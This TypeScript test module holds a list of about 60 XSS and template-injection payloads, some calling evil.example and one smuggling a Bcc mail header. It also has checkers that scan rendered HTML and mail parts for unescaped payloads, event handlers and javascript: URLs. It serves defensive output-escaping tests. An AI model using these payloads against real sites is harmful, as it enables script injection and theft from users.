import { inlineScripts, startTags } from './html.ts';

/** The attribute every payload tries to smuggle in: if a page ever carries it, escaping failed. */
export const CANARY = 'data-xss-canary';

/**
 * About 60 payloads (test plan D1): script tags, event handlers, javascript: URLs, SVG/MathML,
 * attribute breakouts in both quote styles, </script> and </textarea> breakouts, template
 * delimiters (EJS, mustache, template literals), entity and encoding tricks. Each stays within 100
 * characters, the shortest text limit, so forms store it instead of refusing it.
 */
export const XSS_PAYLOADS: readonly string[] = [
  `<script ${CANARY}>alert(1)</script>`,
  `<SCRIPT ${CANARY}>alert(1)</SCRIPT>`,
  `<script ${CANARY} src=//evil.example/x.js></script>`,
  `<img src=x ${CANARY} onerror=alert(1)>`,
  `<img src="x" ${CANARY} onerror="alert(1)">`,
  `<IMG SRC=x ${CANARY} ONERROR=alert(1)>`,
  `<img/src=x/${CANARY}/onerror=alert(1)>`,
  `<svg ${CANARY} onload=alert(1)>`,
  `<svg><script ${CANARY}>alert(1)</script></svg>`,
  `<svg><a ${CANARY} xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mi ${CANARY} xlink:href="javascript:alert(1)">x</mi></math>`,
  `<body ${CANARY} onload=alert(1)>`,
  `<iframe ${CANARY} src="javascript:alert(1)"></iframe>`,
  `<iframe ${CANARY} srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object ${CANARY} data="javascript:alert(1)"></object>`,
  `<embed ${CANARY} src="javascript:alert(1)">`,
  `<a ${CANARY} href="javascript:alert(1)">x</a>`,
  `<a ${CANARY} href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a ${CANARY} href="&#106;avascript:alert(1)">x</a>`,
  `<form ${CANARY} action="javascript:alert(1)"><button>x</button></form>`,
  `<button ${CANARY} formaction="javascript:alert(1)">x</button>`,
  `<input ${CANARY} autofocus onfocus=alert(1)>`,
  `<select ${CANARY} autofocus onfocus=alert(1)>`,
  `<details ${CANARY} open ontoggle=alert(1)>`,
  `<video ${CANARY}><source onerror=alert(1)></video>`,
  `<audio ${CANARY} src=x onerror=alert(1)>`,
  `<marquee ${CANARY} onstart=alert(1)>x</marquee>`,
  `<div ${CANARY} style="background:url(javascript:alert(1))">`,
  `<style ${CANARY}>*{background:red}</style>`,
  `<link ${CANARY} rel=stylesheet href=//evil.example/x.css>`,
  `<meta ${CANARY} http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base ${CANARY} href="//evil.example/">`,
  `"><img src=x ${CANARY} onerror=alert(1)>`,
  `'><img src=x ${CANARY} onerror=alert(1)>`,
  `" ${CANARY}="1" autofocus onfocus="alert(1)`,
  `' ${CANARY}='1' autofocus onfocus='alert(1)`,
  `" ${CANARY} x="`,
  `\`><img src=x ${CANARY} onerror=alert(1)>`,
  `</script><script ${CANARY}>alert(1)</script>`,
  `</textarea><img src=x ${CANARY} onerror=alert(1)>`,
  `</title><img src=x ${CANARY} onerror=alert(1)>`,
  `</style><img src=x ${CANARY} onerror=alert(1)>`,
  `--><img src=x ${CANARY} onerror=alert(1)><!--`,
  `<!--<img src="--><img src=x ${CANARY} onerror=alert(1)//">`,
  `<![CDATA[<img src=x ${CANARY} onerror=alert(1)>]]>`,
  `<%= 7*7 %><img ${CANARY}>`,
  `<%- '<img ${CANARY}>' %>`,
  `<% process.exit(1) %><b ${CANARY}>x</b>`,
  `{{7*7}}<i ${CANARY}>x</i>`,
  `{{constructor.constructor('alert(1)')()}}<u ${CANARY}>`,
  `\${7*7}<s ${CANARY}>x</s>`,
  `#{7*7}<em ${CANARY}>x</em>`,
  `<noscript><p title="</noscript><img src=x ${CANARY} onerror=alert(1)>">`,
  `<a ${CANARY} href=" javascript:alert(1)">x</a>`,
  `<img src=x ${CANARY} onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `<scr<script>ipt ${CANARY}>alert(1)</scr</script>ipt>`,
  `<<img src=x ${CANARY} onerror=alert(1)>`,
  `<img src=x ${CANARY} onerror=alert(1)//`,
  `<x ${CANARY} contenteditable onblur=alert(1)>x</x>`,
  `&lt;img src=x ${CANARY}&gt; & co <b>Ad</b>`,
  `Jan\r\nBcc: x@evil.example <b ${CANARY}>`,
  `‮<b ${CANARY}>evil‬ José <i>`,
];

/** Payloads with an HTML-special character: their raw text must never appear in HTML output. */
const SPECIAL = /[<>"'&`]/;

/**
 * What is wrong with an HTML page or mail part in the light of the payloads stored so far: a raw
 * payload, an element carrying the canary, an inline script or a javascript: URL in a link.
 */
export function xssProblems(html: string, payloads: readonly string[], where: string): string[] {
  const problems: string[] = [];
  for (const payload of payloads) {
    if (SPECIAL.test(payload) && html.includes(payload)) problems.push(`${where}: raw payload ${JSON.stringify(payload)}`);
  }
  for (const tag of startTags(html)) {
    if (tag.attributes.has(CANARY)) problems.push(`${where}: <${tag.name}> carries ${CANARY}`);
    for (const [name, value] of tag.attributes) {
      if (/^on/.test(name)) problems.push(`${where}: <${tag.name}> has an event handler ${name}`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name) && /^\s*javascript:/i.test(value.replace(/[\u0000-\u0020]/g, ''))) {
        problems.push(`${where}: <${tag.name} ${name}> is a javascript: URL`);
      }
    }
  }
  for (const script of inlineScripts(html)) problems.push(`${where}: inline <script> ${JSON.stringify(script.slice(0, 60))}`);
  return problems;
}

/** How EJS's <%= %> writes a value into HTML. */
export function escapeHtml(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&#34;').replace(/'/g, '&#39;');
}

/** A text/plain mail part shows values verbatim: a payload in its HTML-escaped form there was escaped for the wrong medium. */
export function textPartProblems(text: string, payloads: readonly string[], where: string): string[] {
  return payloads
    .filter((payload) => SPECIAL.test(payload) && text.includes(escapeHtml(payload)))
    .map((payload) => `${where}: HTML-escaped payload in the text part ${JSON.stringify(payload)}`);
}
